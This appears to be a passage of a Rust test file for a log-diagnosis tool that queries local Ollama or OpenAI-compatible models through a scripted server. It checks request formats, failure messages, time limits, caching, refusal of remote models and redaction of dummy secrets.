//! The model's part of a run against a scripted server over a real socket.

#![allow(clippy::unwrap_used, reason = "a test may panic")]

#[path = "support/ollama.rs"]
mod ollama;

use std::collections::HashMap;
use std::sync::Mutex;
use std::time::{Duration, Instant};

use heal::analyse::{self, Analysis, AnswerStore, Confidence, Question, State, Step, Terms};
use heal::config::{Ai, Provider};
use heal::sanitize::Sanitizer;
use heal::sys::signal::Interrupt;
use heal::words::Severity;
use ollama::{CAUSE, Reply, Script, Server, answer, lines, pieces};

const SAMPLE: &str = "2025-12-04 14:30:22 ERROR streamtv.streaming: FFmpeg timeout: no data received for 5s (film.avi)";

fn ai(url: &str) -> Ai {
    Ai {
        enabled: true,
        provider: Provider::Ollama,
        ollama_url: url.to_owned(),
        url_given: true,
        model: "llama3.2".to_owned(),
        timeout: Duration::from_secs(20),
        budget: Duration::from_secs(40),
        max_incidents: 5,
        num_ctx: 4096,
        allow_remote: false,
        ca_file: None,
        cache_ttl: Duration::from_secs(7 * 24 * 3600),
    }
}

fn question(incident: &str) -> Question {
    Question {
        incident: incident.to_owned(),
        pattern: Some("ffmpeg_timeout".to_owned()),
        template: "FFmpeg timeout: no data received for <n>s".to_owned(),
        category: "timeout".to_owned(),
        severity: Severity::High,
        description: format!("FFmpeg received no data within the timeout ({incident})"),
        count: 12,
        first_seen: Some("2025-12-04T14:30:22+01:00".to_owned()),
        last_seen: None,
        source: "logs/streamtv.log".to_owned(),
        samples: vec![SAMPLE.to_owned()],
        facts: Vec::new(),
        configuration: Vec::new(),
        fixes: vec!["raise_first_chunk_timeout".to_owned()],
    }
}

fn questions(count: usize) -> Vec<Question> {
    (0..count).map(|index| question(&format!("i{index}"))).collect()
}

#[derive(Default)]
struct Memory(Mutex<HashMap<String, String>>);

impl AnswerStore for Memory {
    fn get(&self, key: &str) -> Option<String> {
        self.0.lock().unwrap().get(key).cloned()
    }

    fn put(&self, key: &str, body: &str) -> std::io::Result<()> {
        self.0.lock().unwrap().insert(key.to_owned(), body.to_owned());
        Ok(())
    }

    fn prune(&self, _before: chrono::DateTime<chrono::FixedOffset>) {}
}

struct Run<'a> {
    store: Option<&'a dyn AnswerStore>,
    fresh: bool,
    later: i64,
}

fn run(questions: &[Question], ai: &Ai) -> Analysis {
    run_with(questions, ai, &Run { store: None, fresh: false, later: 0 })
}

fn run_with(questions: &[Question], ai: &Ai, run: &Run) -> Analysis {
    let sanitizer = Sanitizer::new(&[]).unwrap();
    let now = chrono::DateTime::parse_from_rfc3339("2025-12-05T00:00:00+00:00").unwrap()
        + chrono::TimeDelta::seconds(run.later);
    let terms =
        Terms { ai, sanitizer: &sanitizer, store: run.store, fresh: run.fresh, now, interrupted: &Interrupt::new() };
    analyse::ask(questions, &terms, &mut |_| {})
}

fn text(analysis: &Analysis) -> String {
    analysis.notices.iter().map(|notice| format!("{}: {}", notice.subject, notice.text)).collect::<Vec<_>>().join("\n")
}

fn with_chat(reply: Reply) -> Server {
    Server::start(Script { chats: vec![reply], ..Script::default() })
}

#[test]
fn a_good_answer() {
    let content = format!(
        r#"{{"root_cause":"The archive is slow.","severity":"critical","confidence":"high","evidence":["no data received for 5s"],"fix_suggestions":["Raise the timeout."],"fix":"raise_first_chunk_timeout"}}{}"#,
        "\n"
    );
    let server = with_chat(answer(&content));
    let analysis = run(&[question("i1")], &ai(&server.url()));
    assert_eq!(analysis.state, State::Ok, "{}", text(&analysis));
    assert_eq!((analysis.requests, analysis.cached), (1, 0));
    assert!(analysis.notices.is_empty(), "{}", text(&analysis));
    let opinion = &analysis.diagnoses[0];
    assert_eq!(opinion.incident, "i1");
    assert_eq!(opinion.root_cause, "The archive is slow.");
    assert_eq!(opinion.severity, Severity::Critical);
    assert_eq!(opinion.confidence, Some(Confidence::High));
    assert_eq!(opinion.evidence, ["no data received for 5s"]);
    assert_eq!(opinion.fix.as_deref(), Some("raise_first_chunk_timeout"));
}

#[test]
fn what_is_sent() {
    let server = Server::start(Script::default());
    let _ = run(&[question("i1")], &ai(&server.url()));
    let requests = server.requests();
    let paths: Vec<String> = requests.iter().map(|request| format!("{} {}", request.method, request.path)).collect();
    let expected = ["GET /api/tags", "GET /api/version", "POST /api/show", "POST /api/chat", "POST /api/chat"];
    assert_eq!(paths, expected);
    let load: serde_json::Value = serde_json::from_str(&requests[3].body).unwrap();
    let chat: serde_json::Value = serde_json::from_str(&requests[4].body).unwrap();
    assert_eq!(load["messages"], serde_json::json!([]));
    assert_eq!(load["options"]["num_ctx"], chat["options"]["num_ctx"]);
    assert_eq!(chat["truncate"], false);
    assert_eq!(chat["stream"], true);
    assert_eq!(chat["options"]["temperature"], 0);
    assert!(chat["options"]["seed"].is_u64() && chat["options"]["num_predict"].is_u64());
    assert_eq!(chat["format"]["properties"]["fix"]["enum"], serde_json::json!(["raise_first_chunk_timeout", "none"]));
    assert_eq!(chat["format"]["additionalProperties"], false);
    assert_eq!(chat["messages"][0]["role"], "system");
    let user = chat["messages"][1]["content"].as_str().unwrap();
    let data: serde_json::Value = serde_json::from_str(user.lines().nth(1).unwrap()).unwrap();
    assert_eq!(data["samples"][0], SAMPLE);
    assert!(chat.get("tools").is_none());
}

#[test]
fn thinking_is_turned_off_by_version_and_capability() {
    for (version, capabilities, think) in [
        ("0.33.0", &["completion", "thinking"][..], Some(false)),
        ("0.31.1", &["completion", "thinking"], None),
        ("0.0.0", &["completion", "thinking"], None),
        ("0.12.0-rc2", &["completion"], Some(false)),
    ] {
        let script =
            Script { version: ollama::version(version), show: ollama::show(capabilities, 8192), ..Script::default() };
        let server = Server::start(script);
        assert_eq!(run(&[question("i1")], &ai(&server.url())).state, State::Ok);
        let chat: serde_json::Value = serde_json::from_str(&server.chats()[0].body).unwrap();
        assert_eq!(chat.get("think").and_then(serde_json::Value::as_bool), think, "{version}");
        let usual = chat["options"]["num_predict"].as_u64().unwrap() == 512;
        assert_eq!(usual, think.is_some(), "one that thinks first has all the room there is");
    }
}

#[test]
fn what_a_server_does_not_tell_of_itself_is_done_without() {
    for other in [Reply::Status(404, "404 page not found".into()), Reply::Closed, Reply::Raw(b"x".to_vec())] {
        let server = Server::start(Script { version: other.clone(), show: other, ..Script::default() });
        let analysis = run(&[question("i1")], &ai(&server.url()));
        assert_eq!((analysis.state, analysis.notices.len()), (State::Ok, 0), "{}", text(&analysis));
    }
}

#[test]
fn a_model_of_another_host_is_refused_when_only_it_says_so() {
    let show = Reply::Status(200, r#"{"remote_host":"https://ollama.com:443","capabilities":[]}"#.into());
    let server = Server::start(Script { show, ..Script::default() });
    let analysis = run(&[question("i1")], &ai(&server.url()));
    assert!(text(&analysis).contains("not local"), "{}", text(&analysis));
    assert!(server.chats().is_empty());
    assert_eq!(run(&[question("i1")], &Ai { allow_remote: true, ..ai(&server.url()) }).state, State::Ok);
}

#[test]
fn a_small_context_and_an_old_server_are_told_and_the_question_fits() {
    let script = Script { version: ollama::version("0.9.0"), show: ollama::show(&[], 2048), ..Script::default() };
    let server = Server::start(script);
    let mut asked = question("i1");
    asked.samples = (0..8).map(|at| format!("{at} {}", "word ".repeat(200))).collect();
    let analysis = run(&[asked], &ai(&server.url()));
    let said = text(&analysis);
    assert!(said.contains("context of 2048 tokens") && said.contains("older than 0.12.6"), "{said}");
    let chat: serde_json::Value = serde_json::from_str(&server.chats()[0].body).unwrap();
    assert_eq!(chat["options"]["num_ctx"], 4096, "the same over the run");
    let messages = chat["messages"].as_array().unwrap();
    let bytes: usize = messages.iter().map(|message| message["content"].as_str().unwrap().len()).sum();
    assert!(bytes / 2 + 512 + 256 <= 2048, "{bytes}");
}

#[test]
fn tokens_are_counted_and_small_ones_shorten_the_next_question() {
    let server = Server::start(Script::default());
    let analysis = run(&questions(2), &ai(&server.url()));
    assert_eq!((analysis.prompt_tokens, analysis.answer_tokens), (1200, 180));
    let mut dense = lines(CAUSE, "stop");
    let last = dense.pop().unwrap().replace("\"prompt_eval_count\":400", "\"prompt_eval_count\":5000");
    dense.push(last);
    let server = with_chat(Reply::Lines(dense));
    let mut asked = questions(2);
    for one in &mut asked {
        one.samples = (0..8).map(|at| format!("{at} {}", "word ".repeat(200))).collect();
    }
    assert_eq!(run(&asked, &ai(&server.url())).state, State::Ok);
    let chats = server.chats();
    assert!(chats[1].body.len() * 4 < chats[0].body.len() * 3, "{} {}", chats[0].body.len(), chats[1].body.len());
}

#[test]
fn all_incidents_together() {
    let server = Server::start(Script::default());
    let analysis = run(&questions(3), &ai(&server.url()));
    let picture = analysis.picture.unwrap();
    assert_eq!(picture.together, [["i0", "i1"]]);
    assert_eq!((picture.first.as_deref(), picture.look_at.len()), (Some("i0"), 1));
    assert_eq!(server.pictures().len(), 1);
    let one = Server::start(Script::default());
    assert_eq!(run(&questions(1), &ai(&one.url())).picture, None);
    assert!(one.pictures().is_empty());
    // One that fails takes nothing from the others.
    let bad = Server::start(Script { picture: answer("no"), ..Script::default() });
    let analysis = run(&questions(2), &ai(&bad.url()));
    assert_eq!((analysis.state, analysis.picture.is_none()), (State::Ok, true));
    assert!(text(&analysis).contains("all incidents: The answer of llama3.2 does not count"), "{}", text(&analysis));
    // Without any answer about one of them it is not asked.
    let none = Server::start(Script { chats: vec![answer("no")], ..Script::default() });
    assert_eq!(run(&questions(2), &ai(&none.url())).requests, 2);
}

#[test]
fn what_was_not_told_is_marked_fresh_and_cached() {
    let memory = Memory::default();
    let cached = Run { store: Some(&memory), fresh: false, later: 0 };
    let words = CAUSE.replace("Start it.", "Wait 5s for film.avi, then restart archive.service on port 8080.");
    let server = with_chat(answer(&words));
    for requests in [1, 0] {
        let analysis = run_with(&[question("i1")], &ai(&server.url()), &cached);
        assert_eq!(analysis.requests, requests);
        let suggestion = &analysis.diagnoses[0].fix_suggestions[0];
        assert_eq!(suggestion, "Wait 5s for film.avi, then restart archive.service[?] on port 8080[?].");
        assert!(text(&analysis).contains("may be made up"), "{}", text(&analysis));
    }
}

#[test]
fn facts_and_configuration_are_sent_without_secrets() {
    let server = Server::start(Script::default());
    let mut asked = question("i1");
    asked.facts = vec!["Began 2 s after db".to_owned()];
    asked.configuration = vec![analyse::Excerpt {
        file: "config.yaml".to_owned(),
        lines: vec!["  timeout: 15".to_owned(), "  password: hunter2".to_owned()],
    }];
    let _ = run(&[asked], &ai(&server.url()));
    let chat: serde_json::Value = serde_json::from_str(&server.chats()[0].body).unwrap();
    let user = chat["messages"][1]["content"].as_str().unwrap();
    let data: serde_json::Value = serde_json::from_str(user.lines().nth(1).unwrap()).unwrap();
    assert_eq!(data["facts_by_rules"][0], "Began 2 s after db");
    assert_eq!(data["configuration"][0]["lines"][0], "  timeout: 15");
    assert_eq!(data["configuration"][0]["lines"][1], "  password: [REDACTED:password]");
}

/// The same rules with the other protocol.
mod openai {
    use super::*;
    use ollama::events;

    const KEY: &str = "k-0123456789abcdef";

    fn key_file(folder: &std::path::Path) -> std::path::PathBuf {
        use std::os::unix::fs::PermissionsExt as _;
        let file = folder.join("key");
        #[expect(clippy::disallowed_methods, reason = "a test sets the scene")]
        std::fs::write(&file, format!("{KEY}\n")).unwrap();
        std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o600)).unwrap();
        file
    }

    fn openai(url: &str, key: Option<std::path::PathBuf>) -> Ai {
        let provider = Provider::OpenAi { base_url: format!("{url}/v1"), api_key_file: key };
        Ai { provider, ..ai(url) }
    }

    fn with(chat: Reply) -> Server {
        let tags = Reply::Status(200, r#"{"object":"list","data":[{"id":"qwen"}]}"#.into());
        let picture = Reply::Lines(events(ollama::PICTURE, "stop"));
        Server::start(Script { chats: vec![chat], tags, picture, ..Script::default() })
    }

    #[test]
    fn a_good_answer() {
        let folder = tempfile::tempdir().unwrap();
        let server = with(Reply::Lines(events(CAUSE, "stop")));
        let analysis = run(&questions(2), &openai(&server.url(), Some(key_file(folder.path()))));
        assert_eq!((analysis.state, analysis.requests), (State::Ok, 3), "{}", text(&analysis));
        assert_eq!((analysis.prompt_tokens, analysis.answer_tokens), (1200, 180));
        assert!(analysis.picture.is_some() && analysis.notices.is_empty());
        let requests = server.requests();
        assert!(requests.iter().all(|request| request.path == "/v1/chat/completions"));
        assert!(requests.iter().all(|request| request.head.contains(&format!("authorization: bearer {KEY}"))));
        let body: serde_json::Value = serde_json::from_str(&requests[0].body).unwrap();
        assert_eq!(body["response_format"]["json_schema"]["schema"]["additionalProperties"], false);
        assert_eq!((body["stream"].as_bool(), body["messages"][0]["role"].as_str()), (Some(true), Some("system")));
        assert!(body.get("tools").is_none());
    }

    #[test]
    fn one_whole_object_and_a_stream_that_just_ends_count() {
        let content = serde_json::to_string(CAUSE).unwrap();
        let whole = format!(r#"{{"choices":[{{"message":{{"content":{content}}},"finish_reason":"stop"}}]}}"#);
        let mut ends = events(CAUSE, "stop");
        ends.truncate(ends.len() - 2);
        for reply in [Reply::Status(200, whole), Reply::Lines(ends.clone()), Reply::UntilClosed(ends)] {
            let server = with(reply);
            let analysis = run(&[question("i1")], &openai(&server.url(), None));
            assert_eq!(analysis.state, State::Ok, "{}", text(&analysis));
        }
    }

    #[test]
    fn events_are_read_as_they_are_defined() {
        let content = serde_json::to_string(CAUSE).unwrap();
        let choice = format!(r#"[{{"delta":{{"content":{content}}},"finish_reason":"stop"}}]"#);
        let lines = [
            vec![format!("\u{feff}data: {{\"choices\":{choice}}}"), String::new(), "data: [DONE]".into()],
            vec!["data: {\"choices\":".into(), format!("data: {choice}}}"), String::new(), "data: [DONE]".into()],
            vec!["data: {\"choices\":".into(), format!("data:{choice}}}\r"), "\r".into()],
        ];
        for lines in lines {
            let server = with(Reply::Lines(lines.clone()));
            let analysis = run(&[question("i1")], &openai(&server.url(), None));
            assert_eq!(analysis.state, State::Ok, "{lines:?}: {}", text(&analysis));
        }
    }

    #[test]
    fn every_failure_says_what_to_do() {
        let status = |status, body: &str| Reply::Status(status, body.to_owned());
        let mut cut = events(CAUSE, "stop");
        cut.truncate(3);
        for (name, reply, conversations, words) in [
            (
                "key",
                status(401, &format!(r#"{{"error":{{"message":"Incorrect key: {KEY}"}}}}"#)),
                1,
                "`ai.api_key_file`",
            ),
            (
                "model",
                status(404, r#"{"error":{"message":"The model `llama3.2` does not exist"}}"#),
                1,
                "there are: qwen",
            ),
            ("path", status(404, "not found"), 1, "ends in /v1"),
            ("quota", status(429, r#"{"error":{"message":"quota"}}"#), 1, "quota is used up"),
            ("credit", status(402, "{}"), 1, "no credit"),
            ("proxy", status(504, ""), 1, "proxy's time limit"),
            ("format", status(400, r#"{"error":{"message":"no response_format"}}"#), 1, "`response_format`"),
            ("context", status(400, r#"{"error":{"message":"maximum context length is 2048"}}"#), 2, "`ai.num_ctx`"),
            ("500", status(500, "{}"), 2, "The server at"),
            ("503", status(503, "{}"), 3, "busy"),
            ("redirect", Reply::Redirect("http://127.0.0.1:1/".into()), 1, "`ai.base_url`"),
            ("length", Reply::Lines(events(CAUSE, "length")), 1, "was cut"),
            ("filter", Reply::Lines(events(CAUSE, "content_filter")), 1, "content_filter"),
            ("error", Reply::Lines(vec![r#"data: {"error":{"message":"CUDA"}}"#.into()]), 1, "CUDA"),
            ("no end", Reply::Lines(cut.clone()), 1, "without saying that it is complete"),
            ("hung up", Reply::Cut(cut), 2, "broke before"),
            ("page", status(200, "<html>"), 1, "does not speak the chat protocol"),
            ("endless", Reply::Endless(events("abcdefg", "stop").remove(0)), 1, "without end"),
            ("lie", Reply::Lines(events("[[[[", "stop")), 1, "does not count"),
        ] {
            let folder = tempfile::tempdir().unwrap();
            let server = with(reply);
            let analysis = run(&[question("i1")], &openai(&server.url(), Some(key_file(folder.path()))));
            let said = text(&analysis);
            assert_eq!(analysis.state, State::Unavailable, "{name}: {said}");
            assert!(said.contains(words), "{name}: {said}");
            assert!(!said.contains(KEY) && !said.contains("Ollama"), "{name}: {said}");
            assert_eq!(server.chats().len(), conversations, "{name}: {said}");
        }
    }

    #[test]
    fn the_key_is_sent_and_never_told() {
        let folder = tempfile::tempdir().unwrap();
        let memory = Memory::default();
        let words = CAUSE.replace("Start it.", &format!("Your key is {KEY}."));
        let server = with(Reply::Lines(events(&words, "stop")));
        let cached = Run { store: Some(&memory), fresh: false, later: 0 };
        let analysis = run_with(&[question("i1")], &openai(&server.url(), Some(key_file(folder.path()))), &cached);
        assert_eq!(analysis.state, State::Ok, "{}", text(&analysis));
        assert!(!format!("{analysis:?}").contains(KEY), "{analysis:?}");
        assert!(memory.0.lock().unwrap().values().all(|body| !body.contains(KEY)));
        assert!(server.requests().iter().all(|request| !request.body.contains(KEY)));
    }

    #[test]
    fn a_key_that_json_escapes_is_not_told_either() {
        let folder = tempfile::tempdir().unwrap();
        let memory = Memory::default();
        let escaped = KEY.bytes().map(|byte| format!("\\u{byte:04x}")).collect::<Vec<_>>().concat();
        let words = CAUSE.replace("Start it.", &format!("Your key is {escaped}."));
        let server = with(Reply::Lines(events(&words, "stop")));
        let cached = Run { store: Some(&memory), fresh: false, later: 0 };
        let analysis = run_with(&[question("i1")], &openai(&server.url(), Some(key_file(folder.path()))), &cached);
        assert_eq!(analysis.state, State::Ok, "{}", text(&analysis));
        assert_eq!(analysis.diagnoses[0].fix_suggestions, ["Your key is [REDACTED:api_key]."]);
        assert!(memory.0.lock().unwrap().values().all(|body| !body.contains(KEY) && !body.contains(&escaped)));
    }

    #[test]
    fn another_host_needs_leave_and_a_key_needs_tls() {
        let folder = tempfile::tempdir().unwrap();
        let far = openai("http://192.0.2.1:8080", Some(key_file(folder.path())));
        assert!(text(&run(&[question("i1")], &far)).contains("`ai.allow_remote: true`"));
        let allowed = Ai { allow_remote: true, ..far };
        assert!(text(&run(&[question("i1")], &allowed)).contains("https://"));
    }
}

#[test]
fn nothing_to_ask_and_nothing_wanted_contact_nobody() {
    let server = Server::start(Script::default());
    assert_eq!(run(&[], &ai(&server.url())).state, State::Ok);
    let off = Ai { enabled: false, ..ai(&server.url()) };
    assert_eq!(run(&questions(2), &off).state, State::Off);
    assert!(server.requests().is_empty());
}

#[test]
fn nobody_there() {
    let start = Instant::now();
    let analysis = run(&questions(3), &ai(&ollama::nobody()));
    assert_eq!(analysis.state, State::Unavailable);
    assert_eq!(analysis.notices.len(), 1);
    assert!(text(&analysis).contains("`ollama serve`"), "{}", text(&analysis));
    assert_eq!(analysis.requests, 0);
    assert!(start.elapsed() < Duration::from_secs(5));
}

/// Each case: the script, how many conversations are seen, and words that the notice must have.
#[test]
fn every_failure_says_what_to_do() {
    let status = |status, body: &str| Reply::Status(status, body.to_owned());
    let chat = |reply| Script { chats: vec![reply], ..Script::default() };
    let tags = |tags| Script { tags, ..Script::default() };
    let load = |load| Script { load, ..Script::default() };
    let deep = format!("{}{}", "[".repeat(100_000), "]".repeat(100_000));
    let cases: Vec<(&str, Script, usize, &str)> = vec![
        ("missing model", tags(ollama::tags(&["mistral:7b"])), 0, "`ollama pull llama3.2`"),
        ("no models", tags(status(200, r#"{"models":null}"#)), 0, "does not answer like Ollama"),
        ("another tag", tags(ollama::tags(&["llama3.2:3b"])), 0, "llama3.2:3b"),
        ("a web page", tags(status(200, "<!doctype html><title>hi</title>")), 0, "a web page"),
        ("no such path", tags(status(404, "404 page not found")), 0, "does not answer like Ollama"),
        ("login", tags(status(401, "")), 0, "login"),
        ("empty 403", tags(status(403, "")), 0, "OLLAMA_ORIGINS"),
        ("redirect", tags(Reply::Redirect("http://127.0.0.1:1/elsewhere".into())), 0, "redirects"),
        ("no http", tags(Reply::Raw(b"SSH-2.0-OpenSSH_9.6\r\n".to_vec())), 0, "does not"),
        (
            "remote",
            tags(status(200, r#"{"models":[{"name":"llama3.2:latest","remote_host":"https://ollama.com"}]}"#)),
            0,
            "not local",
        ),
        ("gone at load", load(status(404, r#"{"error":"model 'llama3.2' not found"}"#)), 0, "`ollama pull llama3.2`"),
        (
            "memory",
            load(status(500, r#"{"error":"model requires more system memory (5 GiB) than is available"}"#)),
            0,
            "requires more system memory",
        ),
        ("model missing", chat(status(404, r#"{"error":"model 'llama3.2' not found"}"#)), 1, "`ollama pull llama3.2`"),
        (
            "500",
            chat(status(500, r#"{"error":"llama runner process has terminated"}"#)),
            2,
            "llama runner process has terminated",
        ),
        ("503", chat(status(503, r#"{"error":"server busy"}"#)), 3, "busy"),
        ("502", chat(status(502, "<html>bad gateway</html>")), 3, "status 502"),
        ("400", chat(status(400, r#"{"error":"invalid options"}"#)), 1, "invalid options"),
        (
            "too long",
            chat(status(400, r#"{"error":"the input length exceeds the context length"}"#)),
            2,
            "`ai.num_ctx`",
        ),
        (
            "error line",
            chat(Reply::Lines(vec![pieces("{\"roo").remove(0), r#"{"error":"CUDA error: out of memory"}"#.into()])),
            1,
            "out of memory",
        ),
        ("length", chat(Reply::Lines(lines(CAUSE, "length"))), 1, "was cut"),
        ("other end", chat(Reply::Lines(lines(CAUSE, "load"))), 1, "ended for another reason"),
        ("no done", chat(Reply::Lines(pieces(CAUSE))), 1, "without saying that it is complete"),
        ("cut", chat(Reply::Cut(pieces(CAUSE))), 2, "broke before the answer was complete"),
        ("closed", chat(Reply::UntilClosed(pieces(CAUSE))), 2, "broke before the answer was complete"),
        ("hung up", chat(Reply::Closed), 2, "broke before the answer was complete"),
        ("nonsense", chat(answer("I think the server is down!")), 1, "not valid JSON"),
        ("wrong shape", chat(answer(r#"{"root_cause":7}"#)), 1, "does not have the shape"),
        ("wrong word", chat(answer(&CAUSE.replace("high", "apocalyptic"))), 1, "does not have the shape"),
        ("no cause", chat(answer(&CAUSE.replace("The upstream is down.", " "))), 1, "names no cause"),
        ("deep content", chat(answer(&deep.as_str()[..2000])), 1, "does not count"),
        ("deep line", chat(Reply::Lines(vec![deep])), 1, "does not answer like Ollama"),
        ("page", chat(Reply::Lines(vec!["<html>".into()])), 1, "a web page"),
        ("endless", chat(Reply::Endless(pieces("abcdefg").remove(0))), 1, "without end"),
        ("endless line", chat(Reply::EndlessLine), 1, "without end"),
        ("huge piece", chat(Reply::Lines(lines(&"x".repeat(200_000), "stop"))), 1, "without end"),
    ];
    for (name, script, conversations, words) in cases {
        let server = Server::start(script);
        let start = Instant::now();
        let analysis = run(&[question("i1")], &ai(&server.url()));
        let said = text(&analysis);
        assert_eq!(analysis.state, State::Unavailable, "{name}: {said}");
        assert!(analysis.diagnoses.is_empty(), "{name}");
        assert!(said.contains(words), "{name}: {said}");
        assert_eq!(server.chats().len(), conversations, "{name}: {said}");
        assert!(start.elapsed() < Duration::from_secs(15), "{name} took {:?}", start.elapsed());
    }
}

#[test]
fn a_second_try_where_one_is_allowed() {
    for first in [Reply::Status(500, "{}".into()), Reply::Status(503, "{}".into()), Reply::Closed, Reply::Cut(vec![])] {
        let server = Server::start(Script { chats: vec![first, answer(CAUSE)], ..Script::default() });
        let analysis = run(&[question("i1")], &ai(&server.url()));
        assert_eq!(analysis.state, State::Ok, "{}", text(&analysis));
        assert_eq!(analysis.requests, 1);
        assert_eq!(server.chats().len(), 2);
    }
}

#[test]
fn what_an_earlier_try_met_is_told_when_a_later_one_meets_something_else() {
    let broken = Reply::Cut(pieces(CAUSE));
    let chats = vec![broken, Reply::Status(404, r#"{"error":"model 'llama3.2' not found"}"#.into())];
    let server = Server::start(Script { chats, ..Script::default() });
    let said = text(&run(&[question("i1")], &ai(&server.url())));
    assert!(said.contains("broke before the answer was complete") && said.contains("`ollama pull llama3.2`"), "{said}");
}

#[test]
fn a_prompt_that_is_too_long_is_shortened_once() {
    let long = Reply::Status(400, r#"{"error":"the input length exceeds the context length"}"#.into());
    let server = Server::start(Script { chats: vec![long, answer(CAUSE)], ..Script::default() });
    let mut asked = question("i1");
    asked.samples = (0..8).map(|index| format!("sample {index} {}", "word ".repeat(200))).collect();
    let analysis = run(&[asked], &ai(&server.url()));
    assert_eq!(analysis.state, State::Ok, "{}", text(&analysis));
    let chats = server.chats();
    assert!(chats[1].body.len() < chats[0].body.len());
}

#[test]
fn time_is_bounded() {
    let stalled = || Reply::Stalled(pieces("{\"root"));
    for (name, script) in [
        ("silent list", Script { tags: Reply::Silent, ..Script::default() }),
        ("silent load", Script { load: Reply::Silent, ..Script::default() }),
        ("silent", Script { chats: vec![Reply::Silent], ..Script::default() }),
        ("stalled", Script { chats: vec![stalled()], ..Script::default() }),
        (
            "slow",
            Script { chats: vec![Reply::Paced(lines(CAUSE, "stop"), Duration::from_secs(2))], ..Script::default() },
        ),
    ] {
        let server = Server::start(script);
        let start = Instant::now();
        let ai = Ai { timeout: Duration::from_millis(600), budget: Duration::from_millis(1500), ..ai(&server.url()) };
        let analysis = run(&questions(5), &ai);
        let said = text(&analysis);
        assert_eq!(analysis.state, State::Unavailable, "{name}: {said}");
        assert!(!analysis.notices.is_empty(), "{name}");
        assert!(start.elapsed() < Duration::from_secs(6), "{name} took {:?}", start.elapsed());
        let bodies: Vec<String> = server.chats().into_iter().map(|request| request.body).collect();
        for (at, body) in bodies.iter().enumerate() {
            assert!(!bodies[..at].contains(body), "{name}: asked twice");
        }
    }
}

#[test]
fn after_a_question_that_used_up_its_time_none_is_sent_twice() {
    let server =
        Server::start(Script { chats: vec![Reply::Silent, Reply::Status(500, "{}".into())], ..Script::default() });
    let ai = Ai { timeout: Duration::from_secs(1), ..ai(&server.url()) };
    let analysis = run(&questions(3), &ai);
    assert_eq!(analysis.state, State::Unavailable);
    assert_eq!(server.chats().len(), 3);
}

#[test]
fn a_slow_answer_within_the_time_counts() {
    let server = with_chat(Reply::Paced(lines(CAUSE, "stop"), Duration::from_millis(20)));
    let analysis = run(&[question("i1")], &ai(&server.url()));
    assert_eq!(analysis.state, State::Ok, "{}", text(&analysis));
}

#[test]
fn an_interrupt_ends_it_at_once() {
    let server = Server::start(Script { chats: vec![Reply::Silent], ..Script::default() });
    let interrupted = Interrupt::new();
    let sanitizer = Sanitizer::new(&[]).unwrap();
    let ai = ai(&server.url());
    let now = chrono::DateTime::parse_from_rfc3339("2025-12-05T00:00:00+00:00").unwrap();
    let terms = Terms { ai: &ai, sanitizer: &sanitizer, store: None, fresh: false, now, interrupted: &interrupted };
    let mut set = None;
    let mut seen = Vec::new();
    let analysis = analyse::ask(&questions(3), &terms, &mut |progress| {
        seen.push(progress);
        if matches!(progress.step, Step::Waiting { .. }) && set.is_none() {
            interrupted.ask();
            set = Some(Instant::now());
        }
    });
    assert!(set.unwrap().elapsed() < Duration::from_secs(2));
    assert_eq!(analysis.state, State::Unavailable);
    assert!(text(&analysis).contains("interrupted"));
    let waits = |one: &analyse::Progress| (one.index, one.of, one.step) == (1, 4, Step::Waiting { seconds: 0 });
    assert!(seen.iter().any(waits), "{seen:?}");
}

#[test]
fn one_bad_answer_leaves_the_others() {
    let server = Server::start(Script { chats: vec![answer("no"), answer(CAUSE)], ..Script::default() });
    let analysis = run(&questions(3), &ai(&server.url()));
    assert_eq!(analysis.state, State::Partial);
    let incidents: Vec<&str> = analysis.diagnoses.iter().map(|opinion| opinion.incident.as_str()).collect();
    assert_eq!(incidents, ["i1", "i2"]);
    assert_eq!(analysis.requests, 4, "three incidents, and all of them");
}

#[test]
fn at_most_so_many_incidents() {
    let server = Server::start(Script::default());
    let analysis = run(&questions(4), &Ai { max_incidents: 2, ..ai(&server.url()) });
    assert_eq!((analysis.state, analysis.diagnoses.len(), server.chats().len()), (State::Ok, 2, 2));
    assert!(text(&analysis).contains("2 of 4"));
    assert_eq!(run(&questions(4), &Ai { max_incidents: 0, ..ai(&server.url()) }).state, State::Ok);
}

#[test]
fn cloud_models_are_refused_without_contact() {
    for name in ["gpt-oss:120b-cloud", "deepseek-v3.1:cloud"] {
        let server = Server::start(Script { tags: ollama::tags(&[name]), ..Script::default() });
        let cloud = Ai { model: name.to_owned(), ..ai(&server.url()) };
        let analysis = run(&[question("i1")], &cloud);
        assert_eq!(analysis.state, State::Unavailable);
        assert!(text(&analysis).contains("not local"), "{}", text(&analysis));
        assert!(server.requests().is_empty());
        assert_eq!(run(&[question("i1")], &Ai { allow_remote: true, ..cloud }).state, State::Ok);
    }
}

#[test]
fn a_redirect_is_not_followed() {
    let other = Server::start(Script::default());
    let server =
        Server::start(Script { tags: Reply::Redirect(format!("{}/api/tags", other.url())), ..Script::default() });
    let _ = run(&[question("i1")], &ai(&server.url()));
    assert!(other.requests().is_empty());
}

#[test]
fn the_cache_answers_the_same_question() {
    let memory = Memory::default();
    let cached = |fresh, later| Run { store: Some(&memory), fresh, later };
    let server = Server::start(Script::default());
    let address = server.url();
    let first = run_with(&questions(2), &ai(&address), &cached(false, 0));
    assert_eq!((first.requests, first.cached), (3, 0), "two incidents, and both together");
    let seen = server.requests().len();
    let second = run_with(&questions(2), &ai(&address), &cached(false, 60));
    assert_eq!((second.state, second.requests, second.cached), (State::Ok, 0, 3));
    assert_eq!((&second.diagnoses, &second.picture), (&first.diagnoses, &first.picture));
    assert!(second.picture.is_some());
    assert_eq!(server.requests().len(), seen, "nothing is contacted");
    assert_eq!(run_with(&questions(2), &ai(&address), &cached(true, 60)).requests, 3);
    let stale = run_with(&questions(2), &ai(&address), &cached(false, 8 * 24 * 3600));
    assert_eq!((stale.requests, stale.cached), (3, 0));
    // The server is gone: what is known counts, what is not known does not.
    drop(server);
    let down = ai(&ollama::nobody());
    let all = run_with(&questions(2), &down, &cached(false, 8 * 24 * 3600));
    assert_eq!((all.state, all.cached), (State::Ok, 3));
    let some = run_with(&questions(3), &down, &cached(false, 8 * 24 * 3600));
    assert_eq!((some.state, some.cached), (State::Partial, 2));
}

#[test]
fn a_failed_answer_is_not_cached_and_a_cached_one_is_checked() {
    let memory = Memory::default();
    let cached = Run { store: Some(&memory), fresh: false, later: 0 };
    let server = with_chat(answer("nonsense"));
    let _ = run_with(&[question("i1")], &ai(&server.url()), &cached);
    assert!(memory.0.lock().unwrap().is_empty());
    let server = Server::start(Script::default());
